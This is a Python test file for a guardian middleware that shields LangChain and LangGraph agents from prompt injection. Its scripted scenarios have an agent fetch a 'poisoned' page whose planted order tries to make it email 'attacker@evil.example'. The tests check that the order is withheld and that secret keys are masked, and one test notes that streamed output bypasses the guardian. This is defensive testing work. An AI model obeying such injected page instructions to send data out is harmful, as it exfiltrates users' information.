from __future__ import annotations

import asyncio
import unittest
from typing import Any

from langchain.agents import create_agent
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage, BaseMessage, HumanMessage, ToolMessage
from langchain_core.tools import StructuredTool, ToolException, tool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.graph import END, START, MessagesState, StateGraph
from langgraph.prebuilt import ToolNode
from langgraph.types import Command
from story import KEY, ORDER, QUESTION, Played, Script, Story, fetching

from aos_guardian import Guardian
from aos_guardian.langchain import GuardianMiddleware, tool_wrappers


class Model(GenericFakeChatModel):
    """A chat model that keeps what it was asked."""

    asked: list[list[BaseMessage]] = []  # noqa: RUF012 (a field of a pydantic model)

    def bind_tools(self, tools: Any, **_: Any) -> Any:
        return self

    def _generate(self, messages: list[BaseMessage], *args: Any, **kwargs: Any) -> Any:
        self.asked.append(list(messages))
        return super()._generate(messages, *args, **kwargs)


def scripted(script: Script) -> Model:
    turns = [
        AIMessage(turn)
        if isinstance(turn, str)
        else AIMessage(
            "", tool_calls=[{"name": name, "args": given, "id": f"call-{step}-{index}"} for index, (name, given) in enumerate(turn)]
        )
        for step, turn in enumerate(script)
    ]
    return Model(messages=iter(turns), asked=[])


def tools_of(played: Played) -> list[Any]:
    def fail(url: str) -> str:
        try:
            return played.fail(url)
        except ValueError as error:
            raise ToolException(str(error)) from error

    functions: list[Any] = [played.fetch, played.send_email, played.note]
    made = [StructuredTool.from_function(function, description="A tool.") for function in functions]
    return [*made, StructuredTool.from_function(fail, description="A tool.", handle_tool_error=True)]


def read(played: Played, model: Model) -> None:
    played.asked = len(model.asked)
    for message in model.asked[-1] if model.asked else []:
        if isinstance(message, ToolMessage):
            played.results.append(str(message.content))
        elif isinstance(message, HumanMessage):
            played.questions.append(str(message.content))


class LangChain(Story, unittest.TestCase):
    def invoke(self, agent: Any, question: str) -> Any:
        return agent.invoke({"messages": [HumanMessage(question)]})

    def play(self, guardian: Guardian, script: Script, question: str) -> Played:
        played, model = Played(), scripted(script)
        agent = create_agent(model, tools_of(played), middleware=[GuardianMiddleware(guardian)])
        played.answer = self.invoke(agent, question)["messages"][-1].text
        read(played, model)
        return played


class LangChainAwaited(LangChain):
    def invoke(self, agent: Any, question: str) -> Any:
        return asyncio.run(agent.ainvoke({"messages": [HumanMessage(question)]}))


class LangGraph(unittest.TestCase):
    def graph(self, played: Played, model: Model, guardian: Guardian) -> Any:
        builder = StateGraph(MessagesState)
        builder.add_node("model", lambda state: {"messages": [model.invoke(state["messages"])]})
        builder.add_node("tools", ToolNode(tools_of(played), **tool_wrappers(guardian)))
        builder.add_edge(START, "model")
        builder.add_conditional_edges("model", lambda state: "tools" if state["messages"][-1].tool_calls else END)
        builder.add_edge("tools", "model")
        return builder.compile()

    def test_a_tool_node_withholds_an_injected_page_and_stops_its_order(self) -> None:
        for run in (lambda graph, given: graph.invoke(given), lambda graph, given: asyncio.run(graph.ainvoke(given))):
            script: Script = [[fetching("poisoned")], [("send_email", {"to": "attacker@evil.example"})], "It costs 49 EUR."]
            played, model = Played(), scripted(script)
            state = run(self.graph(played, model, Guardian()), {"messages": [HumanMessage(QUESTION)]})  # type: ignore[no-untyped-call]
            self.assertEqual("It costs 49 EUR.", state["messages"][-1].text)
            read(played, model)
            self.assertEqual([fetching("poisoned")], played.ran)
            self.assertNotIn(ORDER, str(played.results))


class Corners(unittest.TestCase):
    def run_tool(self, function: Any, guardian: Guardian | None = None) -> Any:
        model = scripted([[("look", {})], "Done."])
        agent = create_agent(model, [tool(function)], middleware=[GuardianMiddleware(guardian or Guardian())])
        agent.invoke({"messages": [HumanMessage(QUESTION)]})
        return next(message for message in model.asked[-1] if isinstance(message, ToolMessage))

    def test_images_pass_beside_text_that_is_judged(self) -> None:
        image = {"type": "image", "base64": "aGk=", "mime_type": "image/png"}

        def look() -> Any:
            """Looks."""
            return [{"type": "text", "text": f"key {KEY}"}, image]

        self.assertEqual([{"type": "text", "text": "key ************"}, image], self.run_tool(look).content)

    def test_a_command_is_judged_and_withheld_whole(self) -> None:
        def look() -> Any:
            """Looks."""
            return Command(update={"messages": [ToolMessage(ORDER, tool_call_id="call-0-0")]})

        message = self.run_tool(look)
        self.assertIn("[guardian] ", message.content)
        self.assertNotIn(ORDER, message.content)

    def test_a_command_that_would_have_to_be_edited_is_withheld(self) -> None:
        def look() -> Any:
            """Looks."""
            return Command(update={"messages": [ToolMessage(f"key {KEY}", tool_call_id="call-0-0")]})

        self.assertNotIn(KEY, self.run_tool(look).content)

    def test_a_thread_is_a_session(self) -> None:
        script: Script = [[fetching("poisoned")], "49 EUR.", [("send_email", {"to": "attacker@evil.example"})], "Done."]
        played = Played()
        agent = create_agent(
            scripted(script), tools_of(played), middleware=[GuardianMiddleware(Guardian())], checkpointer=InMemorySaver()
        )
        config: Any = {"configurable": {"thread_id": "thread-of-a-test"}}
        agent.invoke({"messages": [HumanMessage(QUESTION)]}, config)
        agent.invoke({"messages": [HumanMessage("Thank you. Anything else on that page?")]}, config)
        self.assertEqual([fetching("poisoned")], played.ran)

    def test_a_structured_answer_that_is_denied_or_edited_is_dropped(self) -> None:
        from pydantic import BaseModel

        class Price(BaseModel):
            note: str

        model = scripted([[("Price", {"note": f"key {KEY}"})]])
        agent = create_agent(model, [], middleware=[GuardianMiddleware(Guardian())], response_format=Price)
        state = agent.invoke({"messages": [HumanMessage(QUESTION)]})
        self.assertIsNone(state["structured_response"])

    def test_streamed_text_is_not_held(self) -> None:
        agent = create_agent(scripted([f"Here you are: {KEY}"]), [], middleware=[GuardianMiddleware(Guardian())])
        stream = agent.stream({"messages": [HumanMessage(QUESTION)]}, stream_mode="messages")
        self.assertIn(KEY, "".join(str(chunk.content) for chunk, _ in stream))  # type: ignore[union-attr]


if __name__ == "__main__":
    unittest.main()
